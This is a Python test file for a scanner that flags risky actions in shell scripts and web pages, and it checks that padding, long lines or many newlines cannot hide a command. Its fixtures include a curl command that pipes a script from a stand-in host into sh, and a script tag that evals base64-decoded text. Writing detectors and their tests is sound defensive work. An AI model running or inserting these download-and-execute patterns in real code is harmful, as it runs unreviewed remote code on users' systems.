"""Scripts and pages that are longer, or have longer lines, than is searched at once."""

from __future__ import annotations

from dataclasses import replace
from itertools import pairwise

import pytest

from assay.domain.facts import CodeFacts
from assay.domain.limits import DEFAULT_LIMITS
from assay.release.formats.code_shell import script, windows, worth_searching

PIPE = "curl https://host.example/x | sh"
EVAL = "<script>eval(atob('YWxlcnQoMSk='))</script>"
SMALL = replace(DEFAULT_LIMITS, max_script_bytes=500, max_markup_bytes=500)


def names(text):
    return [(act.name, act.line) for act in script(text)]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (":" + " " * 9000 + PIPE, 1),
        (":" + "; x" * 3000 + "; " + PIPE, 1),
        ("x=1 \\\n" * 3000 + PIPE, None),
        ("# a comment \\\n" + PIPE, 2),
        ("\n" * 300_000 + PIPE, 300_001),
    ],
)
def test_no_length_hides_a_command(text, line):
    found = names(text)
    assert {name for name, _ in found} == {"download-and-run"}
    assert line is None or found == [("download-and-run", line)]


def test_windows_share_their_ends():
    line = "".join(chr(65 + number % 26) for number in range(10_000))
    parts = list(windows(line))
    assert parts[0] == line[:4000]
    assert all(a[-1000:] == b[:1000] for a, b in pairwise(parts))
    assert parts[-1].endswith(line[-100:])
    assert list(windows("ab")) == ["ab"]


@pytest.mark.parametrize(
    ("name", "what", "told"),
    [
        ("install.sh", PIPE, "download-and-run"),
        ("page.html", EVAL, "eval"),
        ("tool.js", "require('child_process')", "child_process"),
    ],
)
@pytest.mark.parametrize("filler", ["x=1;\n", "x=1; "])
def test_what_lies_behind_the_first_piece_is_found(
    look, only, name, what, told, filler
):
    text = filler * 5000 + "\n" + what + "\n" + filler * 100
    (facts,) = only(look(text.encode(), name, limits=SMALL), CodeFacts)
    assert [action.name for action in facts.actions] == [told]
    assert facts.actions[0].place.line == text[: text.index(what)].count("\n") + 1
    assert not facts.problems


def test_too_much_that_has_to_be_searched_is_told(look, only):
    text = "echo curl\n" * 5000
    (facts,) = only(look(text.encode(), "install.sh", limits=SMALL), CodeFacts)
    assert [problem.kind for problem in facts.problems] == ["too-long"]


def test_a_script_beyond_what_is_scanned_of_any_text_is_told(look, only):
    limits = replace(SMALL, max_text_scan_bytes=1000)
    (facts,) = only(look(b"x=1\n" * 1000, "install.sh", limits=limits), CodeFacts)
    assert "1000 bytes" in facts.problems[0].detail


def test_lines_keep_their_numbers_where_nothing_is_worth_searching():
    text = "a\nb\ncurl x\n" + "y" * 5000 + "\n" + "y" * 5000 + " wget"
    lines = list(worth_searching(text, pages=False))
    assert [bool(line.strip()) for line in lines] == [False, False, True, False, True]
    assert list(worth_searching("a\nb", pages=True)) == ["", ""]
